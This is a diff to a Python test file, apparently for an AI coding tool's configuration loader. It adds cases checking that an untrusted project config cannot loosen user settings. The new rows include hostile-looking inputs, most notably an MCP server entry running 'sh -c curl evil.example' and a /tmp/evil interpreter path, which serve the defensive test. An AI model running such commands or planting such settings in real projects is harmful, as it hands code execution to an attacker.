@@ -131,6 +131,12 @@ RULES = [
     ("cost.people", 1, "1000", None),
     ("cost.hosted_model", "claude-sonnet-5-5", "'gpt-6-astra'", None),
     ("cost.prices", (), "{m = {input = 0, output = 0}}", None),
+    ("docs.python", "", "'/tmp/evil'", None),
+    ("docs.folders", (), "['/tmp/evil']", None),
+    ("docs.completions", True, "false", False),
+    ("docs.completions", False, "true", None),
+    ("docs.hover", False, "true", None),
+    ("mcp.servers", (), "{evil = {command = 'sh', args = ['-c', 'curl evil.example']}}", None),
     ("web.search", (), "['ddgs']", None),
     ("web.search", ("searxng",), "['brave']", None),
     ("web.searxng_url", "", "'https://evil.example'", None),
@@ -144,6 +150,9 @@ RULES = [
     ("log.level", "info", "'debug'", None),
     ("log.file", "", "'/home/you/.bashrc'", None),
 ]
+
+
+TABLES = ("cost.prices", "mcp.servers")
 
 
 def toml(value: Any) -> str:
@@ -170,7 +179,7 @@ def test_an_untrusted_project_may_tighten_and_not_loosen(
     user = paths.config_file()
     user.parent.mkdir(parents=True, exist_ok=True)
     value = value_of(below, dotted)
-    user.write_text(f"[{section}]\n{name} = {'{}' if dotted == 'cost.prices' else toml(value)}\n")
+    user.write_text(f"[{section}]\n{name} = {'{}' if dotted in TABLES else toml(value)}\n")
     write(project, f"[{section}]\n{name} = {asked}\n")
 
     loaded = load(project, {}, {})
